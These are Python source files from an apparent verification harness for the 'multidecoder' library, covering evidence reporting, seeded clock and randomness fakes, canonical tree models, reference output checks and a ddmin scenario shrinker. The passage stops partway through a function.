        "C18": "scenario = generated keyword layout x op history (get_keywords/get_analyzers/build_registry/Multidecoder/CLI with include/exclude) under per-op enumeration permutation and short reads; non-trivial = (>=2 files or >=1 sub-directory) and one of {duplicate basename, CRLF file, empty/blank-only file, include∩exclude≠∅, >=2 builds in one interpreter}; distinct by digest of (layout, worlds)",
        "C20": "scenario = input bytes x optional keyword layout x 2-6 CLI runs (mode, source, stream knobs, optional corruption, optional error fault); non-trivial = library tree has >=3 nodes and input crossed >=2 raw reads or output >=2 raw writes; distinct by digest of (layout, input, worlds)",
    }[prop]
    evidence = {
        "property_id": prop,
        "tier": tier,
        "seed": master,
        "level": "exploration",
        "wall_s": round(wall, 2),
        "violations": len(reported),
        "coverage": {
            "evaluations": evaluations,
            "distinct_nontrivial": len(nontriv),
            "distinct_scenarios": len(digests),
            "rule": rule,
            "samples": samples or [sample_view(generate(prop, master, 0, shipped, tier))],
            "worlds_run": worlds_run,
            "scenarios_per_hour": int(evaluations / wall * 3600) if wall > 0 else 0,
            "seeds_per_hour": int(evaluations / wall * 3600) if wall > 0 else 0,
            "worlds_per_hour": int(worlds_run / wall * 3600) if wall > 0 else 0,
            "simulated_time": "the repository reads no clock; simulated time is the scheduler's event counter (traced line events + completions)",
            "simulated_steps": totals.get("sched_events", 0),
            "counters": totals,
            "fs_counters": fs_totals,
            "c_clock_seam": "LD_PRELOAD clock() shim active (sim/simclock.c)" if _SIMCLOCK[0] else "absent (no C compiler): clock() in C extensions is the real one",
            "clock_and_random_seam": dict(env_totals, note="simulated clock / urandom / random.seed per world; reads by the code under test (0 = the tree consults neither, the seam is inert)"),
            "faults_injected": fault_summary(prop, totals, fs_totals, hashseeds, enum_seeds),
            "kernel": dict(kernel_totals, note="tier 2: threads started by the code under test become kernel tasks; lib_threads_started = 0 means the tree starts none and the shim is inert"),
            "node_labels_reached": {"distinct": len(labels_seen), "decoder_labels": sorted(k for k in labels_seen if not k.startswith("api."))[:160]},
            "distinct_interleavings": len(interleavings),
            "distinct_hash_seeds": len(hashseeds),
            "distinct_enum_seeds": len(enum_seeds),
            "families": families,
            "regression_scenarios": [name for name, _ in regress],
            "determinism_gate": {"rerun": len(gate_idx), "unstable": len(unstable)},
            "process_model_validation": pm if prop == "C20" else None,
            "known_findings_hit": sorted(set(known_lines)),
            "harness_errors": [f"{i}: {e}"[:300] for i, e in harness_errors[:5]],
            "real_vs_stub": {
                "real": ["src/multidecoder (working tree of " + REPO + ")", "regex", "pefile", "CPython BufferedReader/BufferedWriter/TextIOWrapper", "json", "os.walk", "pkgutil/importlib", "OS threads"],
                "simulated": ["which thread runs next (baton scheduler on settrace line events)", "raw stdin/stdout/stderr and raw layer under opened keyword/input files", "scandir/listdir order", "process start/exit of the CLI (in-process)", "interpreter hash seed / locale / -O as world parameters"],
                "stubbed": ["multidecoder._version only if the git-ignored file is absent (count in counters.version_stubbed)"],
            },
        },
        "assumptions": [
            "C extension calls (regex, binascii, pefile parsing) are atomic steps; true parallelism inside regex is outside the simulation",
            "address-order nondeterminism cannot be seeded, only detected as replay instability",
            "sampling, not enumeration: a clean batch is evidence, not proof",
        ],
    }
    if not os.environ.get("VERIF_NO_EVIDENCE"):
        write_json(os.path.join(VERIF, "evidence", f"{prop}.json"), evidence)
    warn = []
    print(f"{prop} {tier}: {evaluations} scenarios, {worlds_run} worlds, {len(nontriv)} distinct non-trivial, {wall:.1f}s; "
          f"violations={len(reported)} known={len(set(known_lines))} harness_errors={len(harness_errors)} unstable={len(unstable)}")
    if prop == "C20":
        print(f"process-model validation: {pm['runs_compared_with_real_child']} fault-free runs repeated as real child processes, {pm['mismatches']} mismatches")
        for d in pm["details"]:
            print("  WARNING process-model mismatch:", json.dumps(d)[:400])
    if harness_errors:
        for i, e in harness_errors[:5]:
            print(f"HARNESS-ERROR scenario {i}: {e}"[:1500])
    if unstable:
        print(f"UNSTABLE-REPLAY scenarios {unstable[:10]}")
    if exit_code == 0 and (harness_errors or unstable):
        exit_code = 2
    return exit_code


_LAUNCHER = (
    "import sys, types, importlib.util\n"
    "sys.path.insert(0, sys.argv.pop(1))\n"
    "try:\n"
    "    ok = importlib.util.find_spec('multidecoder._version') is not None\n"
    "except Exception:\n"
    "    ok = False\n"
    "if not ok:\n"
    "    m = types.ModuleType('multidecoder._version'); m.version = m.__version__ = '0.0.0+verif.stub'\n"
    "    sys.modules['multidecoder._version'] = m\n"
    "import runpy\n"
    "sys.argv[0] = 'multidecoder'\n"
    "runpy.run_module('multidecoder', run_name='__main__')\n"
)


def validate_process_model(scn, outs):
    """Stub validation (not the deciding step): repeat the fault-free runs of a
    C20 scenario as a real `python -m multidecoder` child with real pipes and
    files and compare its stdout with what the simulated process wrote."""
    import fsim

    w = scn["worlds"][0]
    o = outs[0]
    _counter[0] += 1
    scratch = os.path.join(SCRATCH_TOP, f"real{_counter[0]}")
    os.makedirs(scratch, exist_ok=True)
    compared = mismatched = 0
    details = []
    try:
        kwdir = None
        if scn.get("layout"):
            kwdir = os.path.join(scratch, "kw")
            fsim.materialise(scn["layout"], kwdir)
        data = bytes.fromhex(scn["input"])
        infile = os.path.join(scratch, "input.bin")
        with open(infile, "wb") as fh:
            fh.write(data)
        evs = {e["op"]: e for e in o.get("events", []) if "op" in e}
        for ri, run in enumerate(w["runs"]):
            ev = evs.get(ri)
            if not ev or ev.get("faulty") or run["source"] == "fifo":
                continue
            flag = {"json": "--json", "replace": "--replace", "default": None}[run["mode"]]
            argv = [flag] if flag else []
            if kwdir:
                argv += ["--keywords", kwdir]
            if run["source"] == "file":
                argv.append(infile)
            env = {"PATH": os.environ.get("PATH", ""), "PYTHONHASHSEED": str(w.get("hashseed", 0)), "PYTHONDONTWRITEBYTECODE": "1",
                   "PYTHONIOENCODING": (run.get("knobs") or {}).get("stdout_encoding") or "utf-8", "PYTHONWARNINGS": "ignore"}
            p = subprocess.run([PY, "-c", _LAUNCHER, os.path.join(REPO, "src")] + argv, input=(b"" if run["source"] == "file" else data),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, timeout=120)
            compared += 1
            if p.returncode != ev["status"] or model.digest(p.stdout.hex()) != ev["out"]:
                mismatched += 1
                details.append({"run": ri, "mode": run["mode"], "real_status": p.returncode, "sim_status": ev["status"],
                                "real_len": len(p.stdout), "sim_len": ev["out_len"], "stderr": p.stderr[-200:].decode("utf-8", "replace")})
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    return compared, mismatched, details


def fault_summary(prop, totals, fs, hashseeds, enum_seeds):
    return {
        "enumeration_permutations_fired": fs.get("enum_permuted", 0),
        "enumeration_calls": fs.get("enum_calls", 0),
        "short_reads": fs.get("short_reads", 0) + totals.get("short_reads", 0),
        "short_writes": totals.get("short_writes", 0),
        "eintr_reads": fs.get("eintr_reads", 0) + totals.get("eintr_reads", 0),
        "eintr_writes": totals.get("eintr_writes", 0),
        "error_faults_fired": totals.get("fault_fired", 0) + fs.get("fault_fired", 0),
        "producer_crashes": totals.get("crashes", 0),
        "corruptions": totals.get("corruptions", 0),
        "preemptions": totals.get("preemptions", 0),
        "scans_aborted_mid_way": totals.get("aborts_injected", 0),
        "hash_seeds": len(hashseeds),
    }


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("prop")
    ap.add_argument("--tier", default=os.environ.get("VERIF_TIER", "quick"))
    ap.add_argument("--replay")
    ap.add_argument("--index", type=int)
    ap.add_argument("--dump", type=int, help="print scenario N of this seed and exit")
    a = ap.parse_args()
    master = int(os.environ.get("VERIF_SEED", "20261003"))
    if a.replay:
        sys.exit(replay(a.replay))
    if a.dump is not None:
        print(json.dumps(generate(a.prop, master, a.dump, gen.shipped_summary(REPO), a.tier), indent=1))
        return
    sys.exit(run_check(a.prop, a.tier, master, a.index))


if __name__ == "__main__":
    main()
