"""Clock and randomness seams.

The repository reads no clock and draws no random numbers today, so on the
unchanged tree these seams are inert (their read counters stay at zero and are
reported in evidence).  They exist so that a change which makes results depend
on time (a deadline, a cache expiry, a timestamp in the output) or on unseeded
randomness (sampling, shuffling, uuid) is (a) exposed, because every world gets
a different clock and a different random stream, and (b) replayable, because
both are functions of the world's env_seed.

Simulated clock: starts at a seeded epoch; every read advances it by a seeded
amount (microseconds to seconds) and, rarely, jumps by hours; time.time may
also jump backwards (wall clocks do), the monotonic clocks never do.
time.sleep advances the simulated clock and returns at once.
"""

from __future__ import annotations

import os
import random
import sys
import time

_real = {}


class EnvSim:
    def __init__(self):
        self.counters = {"clock_reads": 0, "sleeps": 0, "urandom_calls": 0, "clock_jumps": 0}
        self.installed = False
        self._rng = random.Random(0)
        self._wall = 0.0
        self._mono = 0.0
        self._scope_prefix = None

    def configure(self, seed):
        self._rng = random.Random(f"env/{seed}")
        self._wall = 978307200.0 + self._rng.random() * 1.2e9  # 2001 .. 2039
        self._mono = self._rng.random() * 1e6
        self._urandom = random.Random(f"urandom/{seed}")
        random.seed(f"global/{seed}")

    # -- clock ----------------------------------------------------------------
    def _tick(self):
        self.counters["clock_reads"] += 1
        r = self._rng.random()
        if r < 0.6:
            d = self._rng.random() * 1e-4
        elif r < 0.95:
            d = self._rng.random() * 0.5
        elif r < 0.99:
            d = self._rng.random() * 30.0
        else:
            d = 3600.0 * (1 + self._rng.random() * 48)
            self.counters["clock_jumps"] += 1
        self._mono += d
        self._wall += d
        if self._rng.random() < 0.01:
            self._wall -= self._rng.random() * 7200.0  # wall clock stepped back
            self.counters["clock_jumps"] += 1

    def time(self):
        self._tick()
        return self._wall

    def time_ns(self):
        return int(self.time() * 1e9)

    def monotonic(self):
        self._tick()
        return self._mono

    def monotonic_ns(self):
        return int(self.monotonic() * 1e9)

    def perf_counter(self):
        self._tick()
        return self._mono

    def perf_counter_ns(self):
        return int(self.perf_counter() * 1e9)

    def process_time(self):
        self._tick()
        return self._mono / 10.0

    def sleep(self, secs):
        self.counters["sleeps"] += 1
        try:
            secs = max(0.0, float(secs))
        except Exception:  # noqa: BLE001
            secs = 0.0
        self._mono += secs
        self._wall += secs

    # -- randomness -----------------------------------------------------------
    def urandom(self, n):
        self.counters["urandom_calls"] += 1
        return bytes(self._urandom.getrandbits(8) for _ in range(n))

    # -- install --------------------------------------------------------------
    def install(self):
        if self.installed:
            return
        for name in ("time", "time_ns", "monotonic", "monotonic_ns", "perf_counter", "perf_counter_ns", "process_time", "sleep"):
            _real[name] = getattr(time, name)
            setattr(time, name, getattr(self, name))
        _real["urandom"] = os.urandom
        os.urandom = self.urandom
        import datetime as _dt

        sim = self
        real_datetime = _dt.datetime
        real_date = _dt.date

        class datetime(real_datetime):  # noqa: N801 - replaces datetime.datetime
            @classmethod
            def now(cls, tz=None):
                return real_datetime.fromtimestamp(sim.time(), tz)

            @classmethod
            def utcnow(cls):
                return real_datetime.fromtimestamp(sim.time(), _dt.timezone.utc).replace(tzinfo=None)

            @classmethod
            def today(cls):
                return real_datetime.fromtimestamp(sim.time())

        class date(real_date):  # noqa: N801
            @classmethod
            def today(cls):
                return real_datetime.fromtimestamp(sim.time()).date()

        _real["datetime"] = real_datetime
        _real["date"] = real_date
        _dt.datetime = datetime
        _dt.date = date
        self.installed = True

    def uninstall(self):
        if not self.installed:
            return
        for name in ("time", "time_ns", "monotonic", "monotonic_ns", "perf_counter", "perf_counter_ns", "process_time", "sleep"):
            setattr(time, name, _real[name])
        os.urandom = _real["urandom"]
        import datetime as _dt

        _dt.datetime = _real["datetime"]
        _dt.date = _real["date"]
        self.installed = False
