"""Harness-side models and canonical forms.

Nothing in this file imports multidecoder: the canonical form, the registry
model, the CLI renderings and the reference flatten / squash algorithms are
computed by the harness from plain attribute reads, so that a change in the
repository cannot change the yardstick it is measured with.
"""

from __future__ import annotations

import hashlib
import json

# --------------------------------------------------------------------------
# canonical tree form


class _Budget:
    def __init__(self, n):
        self.n = n


def canon(node, _depth=0, _budget=None):
    """[type, value-hex, obfuscation, start, end, [children...]] recursively.

    Reads only the six data fields; never calls repo code (no __eq__, no
    __iter__, no flatten).  Depth and size are capped so that a cyclic or
    exploding structure (possible only in a broken tree) still has a finite,
    deterministic canonical form."""
    if _budget is None:
        _budget = _Budget(200000)
    _budget.n -= 1
    if _depth > 200 or _budget.n < 0:
        return ["<too-deep-or-too-big>", "", "", 0, 0, []]
    value = node.value
    if not isinstance(value, (bytes, bytearray)):
        vhex = "!" + type(value).__name__ + ":" + repr(value)[:200]
    else:
        vhex = bytes(value).hex()
    return [
        node.type,
        vhex,
        node.obfuscation,
        node.start,
        node.end,
        [canon(c, _depth + 1, _budget) for c in node.children],
    ]


def parent_links_ok(node, expect_parent="any", _depth=0, _budget=None):
    """Every child's parent is the node that lists it (identity)."""
    if _budget is None:
        _budget = _Budget(200000)
    _budget.n -= 1
    if _depth > 200 or _budget.n < 0:
        return True
    if expect_parent != "any" and node.parent is not expect_parent:
        return False
    for c in node.children:
        if c.parent is not node:
            return False
        if not parent_links_ok(c, "any", _depth + 1, _budget):
            return False
    return True


def digest(obj) -> str:
    return hashlib.sha256(json.dumps(obj, sort_keys=True, separators=(",", ":")).encode()).hexdigest()[:20]


def labels(c, out=None):
    """Set of 'type|obfuscation' labels in a canonical tree (reach probe)."""
    if out is None:
        out = set()
    out.add(f"{c[0]}|{c[2]}")
    for k in c[5]:
        labels(k, out)
    return out


def count_nodes(c) -> int:
    return 1 + sum(count_nodes(k) for k in c[5])


def tree_depth(c) -> int:
    return 1 + max((tree_depth(k) for k in c[5]), default=0)


def tie_groups(c, is_root=True) -> int:
    """Number of (parent, child) pairs where the child covers exactly the
    parent's whole value and the parent is a plain (not decoded) hit of the
    same length: two kept hits with the same absolute span.  This is the only
    place where iteration order of equal-span hits decides the shape."""
    n = 0
    plen = len(c[1]) // 2
    for k in c[5]:
        if not is_root and k[3] == 0 and k[4] == plen and (c[4] - c[3]) == plen:
            n += 1
        n += tie_groups(k, False)
    return n


def decoded_nodes(c, parent_value=None) -> int:
    """Nodes whose value differs (case-insensitively) from the slice of the
    parent they cover."""
    n = 0
    val = bytes.fromhex(c[1]) if not c[1].startswith("!") else b""
    if parent_value is not None:
        if val.lower() != parent_value[c[3] : c[4]].lower():
            n += 1
    for k in c[5]:
        n += decoded_nodes(k, val)
    return n


def canon_diff(a, b, path="root"):
    """First difference between two canonical trees, as text."""
    names = ["type", "value", "obfuscation", "start", "end"]
    for i, nm in enumerate(names):
        if a[i] != b[i]:
            return f"{path}.{nm}: {a[i]!r} != {b[i]!r}"
    if len(a[5]) != len(b[5]):
        return f"{path}: {len(a[5])} children {[k[0] for k in a[5]]} != {len(b[5])} children {[k[0] for k in b[5]]}"
    for i, (x, y) in enumerate(zip(a[5], b[5])):
        d = canon_diff(x, y, f"{path}[{i}:{x[0]}]")
        if d:
            return d
    return None


# --------------------------------------------------------------------------
# reference flatten / squash (instrumented copies used only to decide the
# precondition of the --replace clause of C20)


def _cval(c) -> bytes:
    return bytes.fromhex(c[1]) if not c[1].startswith("!") else b""


def ref_squash(data: bytes, children) -> bytes:
    """Transcription of the documented --replace algorithm (no overlap skip)."""
    offset = 0
    out = []
    for c in children:
        node_data = ref_squash(_cval(c), c[5])
        if node_data != data[c[3] : c[4]]:
            out.append(data[offset : c[3]])
            if c[0].endswith("string"):
                node_data = b'"' + node_data + b'"'
            out.append(node_data)
            offset = c[4]
    out.append(data[offset:])
    return b"".join(out)


def ref_flatten(c) -> bytes:
    value = _cval(c)
    offset = 0
    out = []
    for k in c[5]:
        if k[3] < offset:
            continue
        node_data = ref_flatten(k)
        if node_data != value[k[3] : k[4]]:
            out.append(value[offset : k[3]])
            if k[0].endswith("string"):
                node_data = b'"' + node_data + b'"'
            out.append(node_data)
            offset = k[4]
    out.append(value[offset:])
    return b"".join(out)


def replace_precondition(c) -> bool:
    """True iff, everywhere in the tree, the overlap-skip branch of flatten
    only ever skips children that the --replace algorithm would leave
    unsubstituted.  Then both algorithms perform the same substitutions and
    the statement's 'no two substituted results overlap' holds."""
    value = _cval(c)
    offset = 0
    for k in c[5]:
        if k[3] < offset:
            # skipped by flatten: --replace must not substitute it either
            if ref_squash(_cval(k), k[5]) != value[k[3] : k[4]]:
                return False
            continue
        if not replace_precondition(k):
            return False
        node_data = ref_flatten(k)
        if node_data != value[k[3] : k[4]]:
            offset = k[4]
    return True


# --------------------------------------------------------------------------
# default CLI output model


def escaped(value: bytes) -> str:
    return repr(bytes(value))[2:-1]


def preorder_with_chain(c, chain=()):
    """Yield (chain root->node of (type, obf), value) for every node below the
    root, in pre-order."""
    for k in c[5]:
        ch = chain + ((k[0], k[2]),)
        yield ch, _cval(k)
        yield from preorder_with_chain(k, ch)


def label_matches(prefix: str, chain) -> bool:
    """prefix must be the '/'-joined non-empty types and '>'-marked
    obfuscations of the chain, ancestors before descendants; the order of one
    node's own two tokens is free."""
    groups = []
    for t, o in chain:
        toks = [x for x in (t, (">" + o) if o else "") if x]
        if not toks:
            continue
        groups.append({"/".join(toks), "/".join(reversed(toks))})
    positions = {0}
    first = True
    for alts in groups:
        new = set()
        for p in positions:
            for a in alts:
                s = a if first else "/" + a
                if prefix.startswith(s, p):
                    new.add(p + len(s))
        positions = new
        first = False
        if not positions:
            return False
    return len(prefix) in positions


def check_default_output(text: str, c):
    """Return None if text is a valid default rendering of canonical tree c,
    else a description of the first problem."""
    nodes = list(preorder_with_chain(c))
    lines = text.split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    elif nodes:
        return "output does not end with a newline"
    if len(lines) != len(nodes):
        return f"{len(lines)} lines for {len(nodes)} nodes"
    for i, (line, (chain, value)) in enumerate(zip(lines, nodes)):
        esc = escaped(value)
        if not line.endswith(" " + esc):
            return f"line {i}: {line!r} does not end with ' '+{esc!r}"
        prefix = line[: len(line) - len(esc) - 1]
        if not label_matches(prefix, chain):
            return f"line {i}: label {prefix!r} is not the chain {list(chain)!r}"
    return None


# --------------------------------------------------------------------------
# keyword layout model (C18)


def split_lines(content: bytes):
    """Lines under LF / CR / CRLF splitting, blank lines dropped, as a set."""
    out = set()
    cur = bytearray()
    i = 0
    n = len(content)
    while i < n:
        b = content[i]
        if b == 0x0A or b == 0x0D:
            if cur:
                out.add(bytes(cur))
            cur = bytearray()
            if b == 0x0D and i + 1 < n and content[i + 1] == 0x0A:
                i += 1
        else:
            cur.append(b)
        i += 1
    if cur:
        out.add(bytes(cur))
    return out


def layout_model(layout):
    """layout: {"files": [{"path": "a/b/name", "content": hex}], "dirs": [...]}
    -> list of (basename, frozenset(lines)) for every file with >=1 line."""
    out = []
    for f in layout["files"]:
        lines = split_lines(bytes.fromhex(f["content"]))
        if lines:
            out.append((f["path"].rsplit("/", 1)[-1], frozenset(lines)))
    return out


# The 30 (module, function) pairs registered at the baseline commit 5384c6b.
PINNED_DECODERS = [
    ("base64", "find_Base64Decode"),
    ("base64", "find_FromBase64String"),
    ("base64", "find_atob"),
    ("base64", "find_base64"),
    ("chr", "find_chr"),
    ("codec", "find_utf16"),
    ("concat", "find_concat"),
    ("filename", "find_executable_name"),
    ("filename", "find_library"),
    ("hex", "find_FromHexString"),
    ("hex", "find_hex"),
    ("javascript", "find_unescape"),
    ("network", "find_domains"),
    ("network", "find_emails"),
    ("network", "find_ips"),
    ("network", "find_urls"),
    ("path", "find_path"),
    ("path", "find_windows_path"),
    ("pe_file", "find_pe_files"),
    ("powershell", "find_powershell_bytes"),
    ("replace", "find_js_regex_replace"),
    ("replace", "find_powershell_replace"),
    ("replace", "find_replace"),
    ("replace", "find_vba_replace"),
    ("reverse", "find_reverse"),
    ("shell", "find_cmd_strings"),
    ("shell", "find_powershell_strings"),
    ("vba", "find_createobject"),
    ("vba", "find_strreverse"),
    ("xml", "find_xml_hex"),
]

DECODER_MODULES = sorted({m for m, _ in PINNED_DECODERS})
