"""ddmin over scenario documents.  `test(scn)` re-executes the candidate and
returns True iff the same violation class persists."""

from __future__ import annotations

import copy

import model


def ddmin_list(items, test_with, many=None, batch=16):
    """Classic ddmin: returns a sub-list of items for which test_with(list) is
    True, trying to make it small.  test_with must be True for `items`.
    many(list_of_lists) -> list[bool] evaluates candidates in parallel; the
    first passing candidate in list order is taken, so the result does not
    depend on which finished first.  Candidates are built a batch at a time
    (a megabyte input has a million items: all complements at once do not fit
    in memory) and the granularity is capped for very long lists."""
    items = list(items)
    if many is None:
        def many(cands):
            out = []
            for c in cands:
                ok = test_with(c)
                out.append(ok)
                if ok:
                    break
            return out + [False] * (len(cands) - len(out))
    max_n = len(items) if len(items) <= 20000 else 64
    n = 2
    while len(items) >= 1:
        if len(items) == 1:
            if test_with([]):
                items = []
            break
        size = max(1, len(items) // n)
        starts = list(range(0, len(items), size))
        hit = None
        for b0 in range(0, len(starts), batch):
            part = starts[b0 : b0 + batch]
            cands = [items[:st] + items[st + size :] for st in part]
            res = many(cands)
            k = next((i for i, ok in enumerate(res) if ok), None)
            if k is not None:
                hit = cands[k]
                break
            del cands
        if hit is not None:
            items = hit
            n = max(n - 1, 2)
            max_n = len(items) if len(items) <= 20000 else 64
        else:
            if size == 1 or n >= max_n:
                break
            n = min(len(items), max_n, n * 2)
    return items


def dd(items, build, test):
    """ddmin over items where build(items)->scenario and test is a Tester
    (callable on one scenario, .many on several)."""
    many = getattr(test, "many", None)
    return ddmin_list(
        items,
        lambda its: test(build(its)),
        (lambda cands: many([build(c) for c in cands])) if many else None,
    )


def ddmin_bytes(data: bytes, build, test):
    idx = dd(list(range(len(data))), lambda keep: build(bytes(data[i] for i in keep)), test)
    return bytes(data[i] for i in idx)


def _try(scn, test, mutate):
    cand = copy.deepcopy(scn)
    try:
        r = mutate(cand)
    except Exception:  # noqa: BLE001
        return None
    if r is False:
        return None
    return cand if test(cand) else None


def shrink_layout(scn, test, get, put):
    lay = get(scn)
    if not isinstance(lay, dict):
        return scn

    def with_files(files):
        c = copy.deepcopy(scn)
        l2 = copy.deepcopy(lay)
        l2["files"] = files
        put(c, l2)
        return c

    files = dd(lay["files"], with_files, test)
    scn = with_files(files)
    lay = get(scn)
    # drop lines inside each remaining file (normalising to LF is itself a candidate)
    for fi in range(len(lay["files"])):
        content = bytes.fromhex(lay["files"][fi]["content"])
        lines = sorted(model.split_lines(content))

        def with_lines(ls, fi=fi):
            c = copy.deepcopy(scn)
            l2 = get(c)
            l2["files"][fi]["content"] = (b"\n".join(ls) + (b"\n" if ls else b"")).hex()
            return c

        if test(with_lines(lines)):
            kept = dd(lines, with_lines, test)
            scn = with_lines(kept)
            lay = get(scn)
    # drop directories that are no longer needed
    l2 = get(scn)
    for d in list(l2.get("dirs", [])):
        c = copy.deepcopy(scn)
        lc = get(c)
        lc["dirs"] = [x for x in lc["dirs"] if x != d and not x.startswith(d + "/")]
        if not any(f["path"].startswith(d + "/") for f in lc["files"]) and test(c):
            scn = c
    return scn


# --------------------------------------------------------------------------


def shrink_c09(scn, viol, test):
    # 1. two worlds
    if viol["clause"] == "results_differ":
        wa, wb = viol["a"]["world"], viol["b"]["world"]
        keep = sorted({wa, wb})
    else:
        keep = [viol.get("world", 0)]
    cand = copy.deepcopy(scn)
    cand["worlds"] = [scn["worlds"][i] for i in keep]
    if test(cand):
        scn = cand
    # 2. ops per world
    for wi in range(len(scn["worlds"])):
        ops = scn["worlds"][wi]["ops"]

        def with_ops(o, wi=wi):
            c = copy.deepcopy(scn)
            c["worlds"][wi]["ops"] = o
            return c

        scn = with_ops(dd(ops, with_ops, test))
    # 3. threads and schedules of par_scans
    for wi in range(len(scn["worlds"])):
        for oi, op in enumerate(scn["worlds"][wi]["ops"]):
            if op[0] != "par_scan":
                continue
            while len(scn["worlds"][wi]["ops"][oi][2]) > 2:
                done = False
                for j in range(len(scn["worlds"][wi]["ops"][oi][2])):
                    c = copy.deepcopy(scn)
                    del c["worlds"][wi]["ops"][oi][2][j]
                    if test(c):
                        scn = c
                        done = True
                        break
                if not done:
                    break
    # 4. corpus: unused inputs -> empty, then shrink bytes of the used ones
    used = set()
    for w in scn["worlds"]:
        for op in w["ops"]:
            if op[0] in ("scan", "scan_node", "abort_scan", "scan_fresh", "scan_pre"):
                used.add(op[2])
            elif op[0] == "par_scan":
                used.update(j[0] for j in op[2])
            elif op[0] == "cli":
                used.add(op[3])
    for i in range(len(scn["corpus"])):
        if i not in used:
            scn["corpus"][i] = ""
    for i in sorted(used):
        data = bytes.fromhex(scn["corpus"][i])

        def with_data(b, i=i):
            c = copy.deepcopy(scn)
            c["corpus"][i] = b.hex()
            return c

        if len(data) > 0:
            small = ddmin_bytes(data, with_data, test)
            scn = with_data(small)
    # 5. configuration
    if isinstance(scn["config"]["keywords"], dict) and not scn["config"].get("variants"):
        scn = shrink_layout(scn, test, lambda s: s["config"]["keywords"], lambda s, l: s["config"].__setitem__("keywords", l))
    for k in ("include", "exclude"):
        if scn["config"].get(k) is not None:
            c = copy.deepcopy(scn)
            c["config"][k] = None
            if test(c):
                scn = c
    # 6. knobs to defaults
    for wi in range(len(scn["worlds"])):
        for knob, default in (("io", {"chunk": "full"}), ("env", {"LC_ALL": None, "opt": ""}), ("io_seed", 0), ("env_seed", 0), ("default_ctor", False), ("runtime", None)):
            if scn["worlds"][wi].get(knob) != default:
                c = copy.deepcopy(scn)
                c["worlds"][wi][knob] = default
                if test(c):
                    scn = c
    # 6b. environment variables one by one
    for wi in range(len(scn["worlds"])):
        for name in sorted(((scn["worlds"][wi].get("env") or {}).get("vars") or {})):
            c = copy.deepcopy(scn)
            del c["worlds"][wi]["env"]["vars"][name]
            if test(c):
                scn = c
    # 7. second pass over ops (earlier passes may have made some redundant), drop idle worlds
    for wi in range(len(scn["worlds"])):
        ops = scn["worlds"][wi]["ops"]

        def with_ops2(o, wi=wi):
            c = copy.deepcopy(scn)
            c["worlds"][wi]["ops"] = o
            return c

        if ops:
            scn = with_ops2(dd(ops, with_ops2, test))
    for wi in reversed(range(len(scn["worlds"]))):
        if len(scn["worlds"]) > 1:
            c = copy.deepcopy(scn)
            del c["worlds"][wi]
            if test(c):
                scn = c
    return scn


def shrink_c18(scn, viol, test):
    wi = viol.get("world", 0)
    cand = copy.deepcopy(scn)
    cand["worlds"] = [scn["worlds"][wi]]
    if test(cand):
        scn = cand
    ops = scn["worlds"][0]["ops"]

    def with_ops(o):
        c = copy.deepcopy(scn)
        c["worlds"][0]["ops"] = o
        return c

    scn = with_ops(dd(ops, with_ops, test))
    scn = shrink_layout(scn, test, lambda s: s["layout"], lambda s, l: s.__setitem__("layout", l))
    for knob, default in (("io", {"chunk": "full"}), ("env", {"LC_ALL": None, "opt": ""}), ("enum_seed", 0), ("io_seed", 0), ("env_seed", 0), ("hashseed", 0)):
        if scn["worlds"][0].get(knob) != default:
            c = copy.deepcopy(scn)
            c["worlds"][0][knob] = default
            if test(c):
                scn = c
    # simplify include / exclude arguments
    for oi, op in enumerate(scn["worlds"][0]["ops"]):
        if op[0] in ("get_analyzers", "build_registry"):
            for pos in ((1, 2) if op[0] == "get_analyzers" else (2, 3)):
                if op[pos] is not None:
                    c = copy.deepcopy(scn)
                    c["worlds"][0]["ops"][oi][pos] = None
                    if test(c):
                        scn = c
                        continue
                    names = scn["worlds"][0]["ops"][oi][pos][1]

                    def with_names(ns, oi=oi, pos=pos):
                        c = copy.deepcopy(scn)
                        c["worlds"][0]["ops"][oi][pos] = ["list", ns]
                        return c

                    if test(with_names(names)):
                        scn = with_names(dd(names, with_names, test))
    return scn


def shrink_c20(scn, viol, test):
    runs = scn["worlds"][0]["runs"]

    def with_runs(r):
        c = copy.deepcopy(scn)
        c["worlds"][0]["runs"] = r
        return c

    scn = with_runs(dd(runs, with_runs, test))
    if scn.get("layout"):
        c = copy.deepcopy(scn)
        c["layout"] = None
        if test(c):
            scn = c
        else:
            scn = shrink_layout(scn, test, lambda s: s["layout"], lambda s, l: s.__setitem__("layout", l))
    data = bytes.fromhex(scn["input"])

    def with_data(b):
        c = copy.deepcopy(scn)
        c["input"] = b.hex()
        return c

    if data:
        scn = with_data(ddmin_bytes(data, with_data, test))
    for ri in range(len(scn["worlds"][0]["runs"])):
        for knob, default in (("knobs", {"chunk": "full"}), ("short", False), ("flag_last", False), ("source", "stdin")):
            run = scn["worlds"][0]["runs"][ri]
            if run.get(knob) != default:
                c = copy.deepcopy(scn)
                if knob == "knobs":
                    nk = {"chunk": "full"}
                    for fk in ("stdin_fault", "stdout_fault"):
                        if run["knobs"].get(fk):
                            nk[fk] = run["knobs"][fk]
                    c["worlds"][0]["runs"][ri]["knobs"] = nk
                else:
                    c["worlds"][0]["runs"][ri][knob] = default
                if test(c):
                    scn = c
    for knob, default in (("io", {"chunk": "full"}), ("env", {"LC_ALL": None, "opt": ""}), ("enum_seed", 0), ("io_seed", 0), ("env_seed", 0), ("hashseed", 0)):
        if scn["worlds"][0].get(knob) != default:
            c = copy.deepcopy(scn)
            c["worlds"][0][knob] = default
            if test(c):
                scn = c
    return scn


# --------------------------------------------------------------------------


def witness(scn, viol, outs):
    """The part of a violation signature that names the specific failing
    input / call site (used to match known findings)."""
    prop = scn["property"]
    w = {}
    if prop == "C09":
        if viol["clause"] == "results_differ":
            kind = viol["key"].split(":")[-1]
            w["result_kind"] = "cli" if ":cli:" in viol["key"] else kind
            if viol["key"].startswith("cfg"):
                viol = dict(viol, key=viol["key"].split(":", 1)[1])
            try:
                i = int(viol["key"].split(":")[0])
                w["input"] = scn["corpus"][i] if len(scn["corpus"][i]) <= 128 else scn["corpus"][i][:128] + "…"
            except Exception:  # noqa: BLE001
                pass
    elif prop == "C18":
        ops = scn["worlds"][0]["ops"]
        oi = viol.get("op", 0)
        if 0 <= oi < len(ops):
            w["op"] = ops[oi][0]
    elif prop == "C20":
        runs = scn["worlds"][0]["runs"]
        oi = viol.get("op", -1)
        if 0 <= oi < len(runs):
            w["mode"] = runs[oi]["mode"]
        else:
